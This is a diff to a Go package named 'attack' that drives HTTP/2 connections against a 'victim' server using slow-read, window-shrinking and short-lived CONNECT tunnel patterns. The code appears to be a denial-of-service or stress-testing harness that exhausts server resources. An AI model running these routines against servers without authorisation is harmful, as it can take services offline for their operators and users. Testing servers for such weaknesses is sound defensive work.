@@ -3,6 +3,7 @@
 package attack
 
 import (
+	"bytes"
 	"context"
 	"crypto/tls"
 	"errors"
@@ -50,7 +51,7 @@ func slowRead(p *peer) error {
 			}
 		}
 	}
-	sent, err := p.fill()
+	sent, err := p.fill('x')
 	err = errors.Join(err, p.w.Flush())
 	if err != nil || sent > 0 {
 		return err
@@ -72,13 +73,30 @@ func shrink(p *peer) error {
 		size = 1 << 20
 	}
 	err := p.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: size})
-	_, filled := p.fill()
+	_, filled := p.fill('x')
 	return errors.Join(err, filled, p.w.Flush(), hold(p, 100*time.Millisecond))
 }
 
-// fill sends what the victim's windows allow.
-func (p *peer) fill() (sent int, err error) {
-	chunk := make([]byte, 16<<10)
+// brief has tunnels end as soon as they are open: an echo takes a first byte of zero for a question, which this is not.
+func brief(p *peer) error {
+	if p.id == 1 {
+		for range streamsPerPeer {
+			if _, err := p.connect(); err != nil {
+				return err
+			}
+		}
+	}
+	sent, err := p.fill(0)
+	err = errors.Join(err, p.w.Flush())
+	if err != nil || sent > 0 {
+		return err
+	}
+	return hold(p, 10*time.Millisecond)
+}
+
+// fill sends what the victim's windows allow, of one byte.
+func (p *peer) fill(b byte) (sent int, err error) {
+	chunk := bytes.Repeat([]byte{b}, 16<<10)
 	for id := uint32(1); id < p.id; id += 2 {
 		n := p.windows.take(id, len(chunk))
 		if n == 0 {
